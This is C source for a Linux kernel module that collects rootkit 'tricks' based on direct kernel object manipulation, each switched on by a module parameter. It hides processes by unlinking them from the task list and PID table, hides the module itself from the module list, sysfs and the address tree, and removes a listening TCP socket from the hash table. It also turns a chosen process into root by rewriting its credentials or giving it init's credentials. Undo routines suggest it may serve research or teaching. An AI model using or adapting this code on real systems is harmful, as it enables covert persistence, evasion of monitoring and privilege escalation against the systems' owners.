// SPDX-License-Identifier: GPL-2.0
/*
 * Things taken out of the lists by which they are found, and credentials changed where they lie ("direct kernel object
 * manipulation"): no code is touched, and the things go on living.
 */
#include <linux/cred.h>
#include <linux/idr.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rbtree_latch.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <net/inet_hashtables.h>
#include <net/net_namespace.h>
#include <net/sock.h>

#include "tricks.h"

static int unlink_process;
module_param(unlink_process, int, 0);
MODULE_PARM_DESC(unlink_process, "number of a process to take out of the list of tasks");
static int unlink_pid;
module_param(unlink_pid, int, 0);
MODULE_PARM_DESC(unlink_pid, "number of a process to take out of the table of process numbers");
static int hide_module;
module_param(hide_module, int, 0);
MODULE_PARM_DESC(hide_module, "1: this module is taken out of the list of modules, 2: out of sysfs (for good), 3: both");
static int erase_module;
module_param(erase_module, int, 0);
MODULE_PARM_DESC(erase_module, "this module is taken out of all by which its code is found: list, sysfs's set, tree of addresses");
static int hide_socket;
module_param(hide_socket, int, 0);
MODULE_PARM_DESC(hide_socket, "port of a listening TCP socket to take out of the hash table");
static int change_credentials;
module_param(change_credentials, int, 0);
MODULE_PARM_DESC(change_credentials, "number of a process whose credentials become root's, in place");
static int share_credentials;
module_param(share_credentials, int, 0);
MODULE_PARM_DESC(share_credentials, "number of a process that gets the credentials of the first task");

static struct task_struct *process_of(int number)
{
	struct pid *pid = find_get_pid(number);
	struct task_struct *task = get_pid_task(pid, PIDTYPE_TGID);

	put_pid(pid);
	return task;
}

static struct task_struct *unlinked;

static int do_unlink_process(int number)
{
	rwlock_t *lock = kernel_symbol("tasklist_lock");

	unlinked = process_of(number);
	if (!unlinked || !lock)
		return -ESRCH;
	write_lock_irq(lock);
	list_del_rcu(&unlinked->tasks);
	/* Taken out of a list of its own when the process ends. */
	INIT_LIST_HEAD(&unlinked->tasks);
	write_unlock_irq(lock);
	return 0;
}

static void undo_unlink_process(void)
{
	rwlock_t *lock = kernel_symbol("tasklist_lock");

	write_lock_irq(lock);
	if (pid_alive(unlinked))
		list_add_tail_rcu(&unlinked->tasks, &init_task.tasks);
	write_unlock_irq(lock);
	put_task_struct(unlinked);
}

static struct pid *forgotten;

static int do_unlink_pid(int number)
{
	forgotten = find_get_pid(number);
	if (!forgotten)
		return -ESRCH;
	idr_replace(&init_pid_ns.idr, NULL, number);
	return 0;
}

static void undo_unlink_pid(void)
{
	if (pid_task(forgotten, PIDTYPE_PID))
		idr_replace(&init_pid_ns.idr, forgotten, pid_nr(forgotten));
	put_pid(forgotten);
}

static struct list_head *before_module;

static int do_hide_module(int how)
{
	struct mutex *lock = kernel_symbol("module_mutex");

	if (how & 1) {
		mutex_lock(lock);
		before_module = THIS_MODULE->list.prev;
		list_del_rcu(&THIS_MODULE->list);
		mutex_unlock(lock);
	}
	if (how & 2) {
		kobject_del(&THIS_MODULE->mkobj.kobj);
		__module_get(THIS_MODULE);
	}
	return 0;
}

static void undo_hide_module(void)
{
	struct list_head *modules = kernel_symbol("modules");
	struct mutex *lock = kernel_symbol("module_mutex");

	if (!before_module)
		return;
	mutex_lock(lock);
	list_add_rcu(&THIS_MODULE->list, modules);
	mutex_unlock(lock);
}

/* Of code and of data, as far as the kernel keeps them: what is for initialization alone has gone when this is undone. */
static void for_each_tree_node(void (*visit)(struct latch_tree_node *node))
{
#ifdef mod_mem_type_is_core
	for_class_mod_mem_type(type, core)
		if (THIS_MODULE->mem[type].size)
			visit(&THIS_MODULE->mem[type].mtn.node);
#else
	visit(&THIS_MODULE->core_layout.mtn.node);
#endif
}

/* The tree is the first member of what the symbol stands for. */
static struct latch_tree_root *code_tree(void)
{
	return kernel_symbol("mod_tree");
}

static unsigned long code_address(struct latch_tree_node *node)
{
#ifdef mod_mem_type_is_core
	return (unsigned long)container_of(node, struct module_memory, mtn.node)->base;
#else
	return (unsigned long)container_of(node, struct module_layout, mtn.node)->base;
#endif
}

static bool is_before(struct latch_tree_node *one, struct latch_tree_node *other)
{
	return code_address(one) < code_address(other);
}

static const struct latch_tree_ops by_address = { .less = is_before };

static void erase_from_tree(struct latch_tree_node *node)
{
	latch_tree_erase(node, code_tree(), &by_address);
}

static void insert_into_tree(struct latch_tree_node *node)
{
	latch_tree_insert(node, code_tree(), &by_address);
}

static int do_erase_module(int how)
{
	struct kobject *object = &THIS_MODULE->mkobj.kobj;
	struct mutex *lock = kernel_symbol("module_mutex");

	mutex_lock(lock);
	list_del_rcu(&THIS_MODULE->list);
	for_each_tree_node(erase_from_tree);
	mutex_unlock(lock);
	spin_lock(&object->kset->list_lock);
	list_del_init(&object->entry);
	spin_unlock(&object->kset->list_lock);
	return 0;
}

static void undo_erase_module(void)
{
	struct kobject *object = &THIS_MODULE->mkobj.kobj;
	struct mutex *lock = kernel_symbol("module_mutex");

	spin_lock(&object->kset->list_lock);
	list_add_tail(&object->entry, &object->kset->list);
	spin_unlock(&object->kset->list_lock);
	mutex_lock(lock);
	for_each_tree_node(insert_into_tree);
	list_add_rcu(&THIS_MODULE->list, kernel_symbol("modules"));
	mutex_unlock(lock);
}

static struct sock *unhashed;

static int do_hide_socket(int port)
{
	struct inet_hashinfo *table = init_net.ipv4.tcp_death_row.hashinfo;

	rcu_read_lock();
	unhashed = __inet_lookup_listener(&init_net, table, NULL, 0, htonl(INADDR_LOOPBACK), 1, htonl(INADDR_LOOPBACK),
					  port, 0, 0);
	if (unhashed)
		sock_hold(unhashed);
	rcu_read_unlock();
	if (!unhashed)
		return -ENOENT;
	lock_sock(unhashed);
	unhashed->sk_prot->unhash(unhashed);
	release_sock(unhashed);
	return 0;
}

static void undo_hide_socket(void)
{
	lock_sock(unhashed);
	if (unhashed->sk_state == TCP_LISTEN)
		unhashed->sk_prot->hash(unhashed);
	release_sock(unhashed);
	sock_put(unhashed);
}

static struct task_struct *promoted;
static kuid_t promoted_user;

static void set_user(struct task_struct *task, kuid_t user)
{
	struct cred *credentials = (struct cred *)rcu_dereference_protected(task->cred, true);

	credentials->uid = credentials->euid = credentials->suid = credentials->fsuid = user;
}

static int do_change_credentials(int number)
{
	promoted = process_of(number);
	if (!promoted)
		return -ESRCH;
	promoted_user = rcu_dereference_protected(promoted->cred, true)->uid;
	set_user(promoted, GLOBAL_ROOT_UID);
	return 0;
}

static void undo_change_credentials(void)
{
	set_user(promoted, promoted_user);
	put_task_struct(promoted);
}

static struct task_struct *sharer;
static const struct cred *own_credentials;

static void set_credentials(struct task_struct *task, const struct cred *credentials)
{
	rcu_assign_pointer(task->real_cred, get_cred(credentials));
	rcu_assign_pointer(task->cred, get_cred(credentials));
}

static int do_share_credentials(int number)
{
	sharer = process_of(number);
	if (!sharer)
		return -ESRCH;
	own_credentials = rcu_dereference_protected(sharer->cred, true);
	set_credentials(sharer, rcu_dereference_protected(init_task.cred, true));
	return 0;
}

static void undo_share_credentials(void)
{
	set_credentials(sharer, own_credentials);
	put_task_struct(sharer);
}

struct trick object_tricks[] = {
	{ "unlink_process", &unlink_process, do_unlink_process, undo_unlink_process },
	{ "unlink_pid", &unlink_pid, do_unlink_pid, undo_unlink_pid },
	{ "hide_module", &hide_module, do_hide_module, undo_hide_module },
	{ "erase_module", &erase_module, do_erase_module, undo_erase_module },
	{ "hide_socket", &hide_socket, do_hide_socket, undo_hide_socket },
	{ "change_credentials", &change_credentials, do_change_credentials, undo_change_credentials },
	{ "share_credentials", &share_credentials, do_share_credentials, undo_share_credentials },
	{ }
};
